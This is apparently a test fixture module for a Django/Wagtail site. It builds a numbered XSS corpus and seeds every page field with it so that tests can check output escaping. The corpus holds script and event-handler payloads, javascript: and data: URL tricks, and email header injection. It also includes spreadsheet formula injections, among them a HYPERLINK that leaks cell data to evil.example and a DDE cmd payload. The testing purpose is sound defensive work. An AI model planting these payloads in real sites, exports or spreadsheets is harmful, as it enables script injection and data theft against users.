"""An XSS corpus, and a site whose every public text, URL and rich text field holds it.

Each payload calls `__xss(n)` (or `parent.__xss(n)` from a frame) with its own number when
it runs, so a browser test can tell which one got through. The data is written through the
ORM, as an import, a migration or the shell would, never through the admin's validation.
Used by tests/core/test_safe_output.py (raw HTML, feeds, API, CSV, mails) and
tests/browser/test_xss_corpus.py (Chromium).
"""

import base64
import datetime
from dataclasses import dataclass
from decimal import Decimal

from django.utils import translation

from wagtail.contrib.search_promotions.models import Query, SearchPromotion
from wagtail.models import Page

from funding.models import Grant
from news.models import Keyword, MediaVideo
from pirsote.core.models import ContactPerson, CustomImage
from projects.models import Goal, Organisation, TargetGroup
from tests.factories import (
    CaptionsDocumentFactory,
    ContactPersonFactory,
    FundingPageFactory,
    GoalFactory,
    GoalIndexPageFactory,
    GrantFactory,
    ImageFactory,
    KeywordFactory,
    MediaVideoFactory,
    NewsIndexPageFactory,
    OrganisationFactory,
    PaymentFactory,
    ProjectIndexPageFactory,
    ProjectPageFactory,
    ReformPageFactory,
    ReleaseContactFactory,
    ReleaseCorrectionFactory,
    ReleaseImageFactory,
    ReleasePageFactory,
    SectionIndexPageFactory,
    ServiceModelIndexPageFactory,
    ServiceModelPageFactory,
    SiteSettingsFactory,
    TargetGroupFactory,
    VideoDocumentFactory,
    own_collections,
)

# The word every payload text starts with: what the site search is asked for.
SEARCH_WORD = "xsskoe"


def _data_url(n):
    script = f"<script>parent.__xss({n})</script>".encode()
    return "data:text/html;base64," + base64.b64encode(script).decode()


# Markup payloads: for plain text fields (escaped) and rich text (cleaned). "{n}" is the
# payload's number. Some are written for one context and harmless elsewhere; all go everywhere.
_MARKUP = [
    "<script>__xss({n})</script>",
    "<img src=x onerror=__xss({n})>",
    "<svg onload=__xss({n})>",
    "<svg><script>__xss({n})</script></svg>",
    '"><script>__xss({n})</script>',
    "'><img src=x onerror=__xss({n})>",
    '" onmouseover="__xss({n})" x="',
    "' autofocus onfocus='__xss({n})' x='",
    '" autofocus onfocus="__xss({n})',
    "<body onload=__xss({n})>",
    '<iframe srcdoc="<script>parent.__xss({n})</script>"></iframe>',
    '<iframe src="javascript:parent.__xss({n})"></iframe>',
    "<details open ontoggle=__xss({n})>",
    '<a href="javascript:__xss({n})">xss link {n}</a>',
    '<a href="JaVaScRiPt:__xss({n})">xss link {n}</a>',
    '<a href="jav&#x09;ascript:__xss({n})">xss link {n}</a>',
    '<a href="&#106;avascript:__xss({n})">xss link {n}</a>',
    '<a href=" javascript:__xss({n})">xss link {n}</a>',
    '<a href="javascript&colon;__xss({n})">xss link {n}</a>',
    '<a href="vbscript:__xss({n})">xss link {n}</a>',
    '<a href="data:text/html,<script>parent.__xss({n})</script>">xss link {n}</a>',
    '<object data="javascript:__xss({n})"></object>',
    '<embed src="javascript:__xss({n})">',
    "<math><mtext><table><mglyph><style><img src=x onerror=__xss({n})>",
    '<noscript><p title="</noscript><img src=x onerror=__xss({n})>">',
    "</script><script>__xss({n})</script>",
    "</title><script>__xss({n})</script>",
    "</textarea><script>__xss({n})</script>",
    "<input autofocus onfocus=__xss({n})>",
    "<video><source onerror=__xss({n})></video>",
    "<form><button formaction=javascript:__xss({n})>xss button {n}</button></form>",
    "{{ 7*191 }} {% debug %} ${7*191} #{n}",
    '<meta http-equiv="refresh" content="0;url=javascript:__xss({n})">',
    '<base href="javascript:__xss({n})//">',
    '<div style="background:url(javascript:__xss({n}))">styled {n}</div>',
    "\u2028\u2029<script>__xss({n})</script>",
    "<scr<script>ipt>__xss({n})</scr</script>ipt>",
    '<img src="x" onerror="&#95;&#95;xss({n})">',
    '<svg><a xlink:href="javascript:__xss({n})"><text y="20">xss link {n}</text></a></svg>',
    "<marquee onstart=__xss({n})>m</marquee>",
    '"-__xss({n})-"',
    "';__xss({n});//",
    "Otsikko {n}\r\nBcc: uhri@example.com\r\n\r\n<script>__xss({n})</script>",
]

# URL payloads: for URL fields and link blocks. All must come out as no link at all.
_URLS = [
    "javascript:__xss({n})",
    "JAVASCRIPT:__xss({n})",
    " javascript:__xss({n})",
    "\tjavascript:__xss({n})",
    "java\tscript:__xss({n})",
    "java\nscript:__xss({n})",
    "\x01javascript:__xss({n})",
    "javascript&colon;__xss({n})",
    "&#106;avascript:__xss({n})",
    "javascript://%0a__xss({n})",
    "data:text/html,<script>parent.__xss({n})</script>",
    "DATA:",  # replaced by a base64 data URL below
    "vbscript:__xss({n})",
    "//evil.example/{n}",
    "\\\\evil.example\\{n}",
    'https://example.fi/{n}" onmouseover="__xss({n})',
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+__xss({n})//'>",
]


@dataclass(frozen=True)
class Payload:
    number: int
    text: str


def _numbered():
    markup, urls = [], []
    number = 0
    for template in _MARKUP:
        number += 1
        markup.append(Payload(number, template.replace("{n}", str(number))))
    for template in _URLS:
        number += 1
        text = _data_url(number) if template == "DATA:" else template.replace("{n}", str(number))
        urls.append(Payload(number, text))
    return markup, urls


MARKUP, URLS = _numbered()
PAYLOADS = MARKUP + URLS
assert len(PAYLOADS) >= 40


class _Cycle:
    """Hands out the markup payloads in turn, each prefixed with SEARCH_WORD, within a length."""

    def __init__(self):
        self.position = 0

    def __call__(self, max_length=None):
        for _ in range(len(MARKUP)):
            payload = MARKUP[self.position % len(MARKUP)]
            self.position += 1
            text = f"{SEARCH_WORD} {payload.text}"
            if max_length is None or len(text) <= max_length:
                return text
            if len(payload.text) <= (max_length or 0):
                return payload.text
        return "<b>x</b>"[:max_length]


def payload_body(image, video, captions, person):
    """Raw StreamField data: every block type once per markup payload, links with every URL one."""
    blocks = []
    for index, payload in enumerate(MARKUP):
        text = payload.text
        url = URLS[index % len(URLS)].text
        blocks += [
            {"type": "heading", "value": {"text": text[:200], "level": "h2"}},
            {"type": "paragraph", "value": f"<p>{SEARCH_WORD}</p>{text}"},
            {"type": "image", "value": {"image": image.pk, "caption": text[:300]}},
            {"type": "quote", "value": {"quote": text, "attribution": text[:200]}},
            {
                "type": "fact_figures",
                "value": {
                    "heading": text[:200],
                    "figures": [{"value": "1", "unit": "", "label": text[:200]}],
                },
            },
            {
                "type": "link_list",
                "value": {
                    "heading": text[:200],
                    "links": [{"page": None, "url": url, "text": f"xss link {payload.number}"}],
                },
            },
        ]
    # A heading level is a choice; stored through the ORM it could be anything.
    blocks.append(
        {"type": "heading", "value": {"text": "taso", "level": "img src=x onerror=__xss(0) x"}}
    )
    blocks.append(
        {
            "type": "link_list",
            "value": {
                "heading": "kaikki osoitteet",
                "links": [
                    {"page": None, "url": p.text, "text": f"xss link {p.number}"} for p in URLS
                ],
            },
        }
    )
    blocks.append(
        {
            "type": "video",
            "value": {
                "title": MARKUP[0].text,
                "video": video.pk,
                "captions": captions.pk,
                "poster": image.pk,
                "transcript": "".join(p.text for p in MARKUP[:20]),
            },
        }
    )
    blocks.append(
        {"type": "contact_people", "value": {"heading": MARKUP[1].text, "people": [person.pk]}}
    )
    return blocks


def build_payload_site(home, site):
    """Fill a site under `home` with the corpus; returns the pages to visit and what to delete.

    `home` is the root page of `site`. Every page type is there, with its scalar texts from the
    corpus in turn and its body from payload_body() in both languages.
    """
    text = _Cycle()
    url = iter(URLS * 4)

    def page_texts():
        return {
            "title_fi": text(255),
            "title_en": text(255),
            "intro_fi": text(),
            "intro_en": text(),
            "seo_title_fi": text(255),
            "search_description_fi": text(),
        }

    with translation.override("fi"):
        image = ImageFactory(
            title=text(255),
            description_fi=text(255),
            description_en=text(255),
            credit=text(255),
            free_for_media_use=True,
            file__width=640,
            file__height=360,
        )
        video, captions = VideoDocumentFactory(), CaptionsDocumentFactory()
        person = ContactPersonFactory(
            name=text(200),
            job_title_fi=text(200),
            organisation_fi=text(200),
            phone="+358 40 <b>1</b>",
            email="xss@example.fi",
            photo=image,
        )
        body = payload_body(image, video, captions, person)
        home.title_fi = text(255)
        home.intro_fi = text()
        home.body_fi = body
        home.body_en = body
        home.listing_image = image
        home.save()

        SiteSettingsFactory(
            site=site,
            publisher_name_fi=text(200),
            publisher_name_en=text(200),
            publisher_description_fi=text(),
            address_fi=text(),
            phone="+358 <i>3</i>",
            social_links=[
                {"type": "link", "value": {"service": f"xss link {p.number}", "url": p.text}}
                for p in URLS
            ],
            not_found_title_fi=text(200),
            not_found_text_fi="".join(p.text for p in MARKUP),
        )

        section = SectionIndexPageFactory(
            parent=home, slug_fi="osio", slug_en="section", **page_texts()
        )
        reform = ReformPageFactory(parent=section, slug_fi="sivu", slug_en="page", **page_texts())
        reform.body_fi = reform.body_en = body
        reform.listing_image = image
        reform.save()

        organisation = OrganisationFactory(
            name_fi=text(200),
            name_en=text(200),
            abbreviation="<b>x</b>",
            identifier=text(100),
            website=next(url).text,
        )
        goal = GoalFactory(name_fi=text(200), description_fi=text())
        group = TargetGroupFactory(name_fi=text(200))
        projects = ProjectIndexPageFactory(
            parent=home, slug_fi="hankkeet", slug_en="projects", **page_texts()
        )
        project = ProjectPageFactory(
            parent=projects,
            acronym='"><b>x</b>',
            slug_fi="hanke",
            slug_en="project",
            coordinator=organisation,
            implementers=[organisation],
            goals=[goal],
            **page_texts(),
        )
        project.body_fi = project.body_en = body
        project.save()
        project.staff_figures.create(count=3, description_fi=text(200))
        project.contacts.create(person=person, role_fi=text(200))
        service_model = ServiceModelPageFactory(
            parent=project,
            slug_fi="malli",
            slug_en="model",
            goals=[goal],
            target_groups=[group],
            **page_texts(),
        )
        # Page.save() validates; an import or the shell would write past it, as here.
        for page in (project, service_model):
            type(page).objects.filter(pk=page.pk).update(innokyla_url=next(url).text)
            page.refresh_from_db()
        ServiceModelIndexPageFactory(parent=projects, **page_texts())
        goals_page = GoalIndexPageFactory(
            parent=section, slug_fi="tavoitteet", slug_en="goals", **page_texts()
        )
        funding = FundingPageFactory(
            parent=section, slug_fi="rahoitus", slug_en="funding", **page_texts()
        )
        grants = [
            GrantFactory(
                project=project,
                funder=organisation,
                recipient=organisation,
                title_fi=start + text(190),
                title_en=start + text(190),
                description_fi=start + text(),
                description_en=start + text(),
                decision_reference=text(100),
                amount_awarded=Decimal("1000.00"),
                award_date=datetime.date(2024, 1, 1),
            )
            for start in ("=", "+", "-", "@", "\t", "\r", " =")
        ]
        formula = GrantFactory(
            project=project,
            funder=organisation,
            recipient=organisation,
            title_fi='=HYPERLINK("https://evil.example/?leak="&A1,"Avaa")',
            title_en="=1+1",
            description_fi="@SUM(1+1)*cmd|' /C calc'!A0",
            description_en="-2+3",
        )
        PaymentFactory(grant=formula, reference=text(100))
        grants.append(formula)

        newsroom = NewsIndexPageFactory(
            parent=home, slug_fi="uutiset", slug_en="news", **page_texts()
        )
        keyword = KeywordFactory(slug="xss-avainsana", name_fi=text(100), name_en=text(100))
        release = ReleasePageFactory(
            parent=newsroom,
            slug_fi="tiedote",
            slug_en="release",
            keywords=[keyword],
            projects=[project],
            listing_image=image,
            **page_texts(),
        )
        release.body_fi = release.body_en = body
        release.save()
        ReleaseContactFactory(page=release, person=person)
        ReleaseImageFactory(page=release, image=image, caption_fi=text(300), caption_en=text(300))
        ReleaseCorrectionFactory(page=release, text_fi=text(), text_en=text())
        media_video = MediaVideoFactory(
            title_fi=text(200),
            description_fi=text(),
            credit=text(255),
            video=video,
            captions=captions,
            poster=image,
            free_for_media_use=True,
        )

        query, _ = Query.objects.get_or_create(query_string=SEARCH_WORD)
        promotions = [
            SearchPromotion.objects.create(
                query=query,
                external_link_url=p.text,
                external_link_text=f"xss link {p.number}",
                description=text(),
                sort_order=index,
            )
            for index, p in enumerate(URLS[:5])
        ]

    pages = {
        "home": home,
        "section": section,
        "reform": reform,
        "projects": projects,
        "project": project,
        "service-model": service_model,
        "goals": goals_page,
        "funding": funding,
        "newsroom": newsroom,
        "release": release,
    }
    objects = {
        "images": [image],
        "documents": [video, captions],
        "people": [person],
        "organisations": [organisation],
        "goals": [goal],
        "target_groups": [group],
        "grants": grants,
        "keywords": [keyword],
        "videos": [media_video],
        "promotions": promotions,
        "query": query,
    }
    return pages, objects


def delete_payload_site(site, home, objects):
    """Delete the site, its pages and everything build_payload_site() made."""
    # Grants protect their projects and organisations: they go first.
    Grant.objects.filter(pk__in=[g.pk for g in objects["grants"]]).delete()
    objects["query"].delete()
    site.delete()
    Page.objects.get(pk=home.pk).delete()
    collections = own_collections([*objects["images"], *objects["documents"]])
    for model, key in (
        (MediaVideo, "videos"),
        (Keyword, "keywords"),
        (ContactPerson, "people"),
        (CustomImage, "images"),
        (Organisation, "organisations"),
        (Goal, "goals"),
        (TargetGroup, "target_groups"),
    ):
        model.objects.filter(pk__in=[obj.pk for obj in objects[key]]).delete()
    for document in objects["documents"]:
        document.delete()
    collections.delete()
